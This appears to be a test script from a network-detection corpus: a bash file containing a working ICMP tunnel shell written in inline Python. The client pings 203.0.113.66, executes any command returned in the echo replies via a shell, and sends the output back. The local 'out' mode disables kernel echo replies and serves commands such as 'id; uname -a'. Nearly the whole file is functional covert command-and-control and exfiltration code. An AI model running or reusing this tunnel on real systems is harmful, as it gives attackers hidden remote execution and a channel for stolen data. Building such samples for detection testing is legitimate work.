#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel half=report tool=python3 far=out seconds=20
# A shell of a few lines of Python in echo: it asks twice a second, answers bring commands and carry what they printed.
if [ "$1" = out ]; then
	trap 'echo 0 >/proc/sys/net/ipv4/icmp_echo_ignore_all' EXIT TERM
	echo 1 >/proc/sys/net/ipv4/icmp_echo_ignore_all
	timeout 40 python3 -c 'import socket
def total(data):
    s = sum(int.from_bytes(data[i:i + 2].ljust(2, b"\0"), "big") for i in range(0, len(data), 2))
    s = (s >> 16) + (s & 65535)
    return (~(s + (s >> 16)) & 65535).to_bytes(2, "big")
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
n = 0
while True:
    data, peer = s.recvfrom(2000)
    if data[20] == 8:
        n += 1
        rest = data[24:28] + (b"ls -l /usr/lib; id; uname -a" if n % 4 == 0 else b"-")
        s.sendto(b"\0\0" + total(b"\0\0\0\0" + rest) + rest, peer)'
fi
timeout 17 python3 -c 'import socket, subprocess, time
def total(data):
    s = sum(int.from_bytes(data[i:i + 2].ljust(2, b"\0"), "big") for i in range(0, len(data), 2))
    s = (s >> 16) + (s & 65535)
    return (~(s + (s >> 16)) & 65535).to_bytes(2, "big")
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
s.settimeout(0.5)
out = b""
for n in range(1000):
    rest = b"\x07\x07" + n.to_bytes(2, "big") + out[:900]
    out = out[900:]
    s.sendto(b"\x08\0" + total(b"\x08\0\0\0" + rest) + rest, ("203.0.113.66", 0))
    try:
        said = s.recv(2000)[28:]
    except TimeoutError:
        continue
    if len(said) > 1:
        out += subprocess.run(said.decode(), shell=True, capture_output=True).stdout[:20000]
    time.sleep(0.05 if out else 0.5)'
true
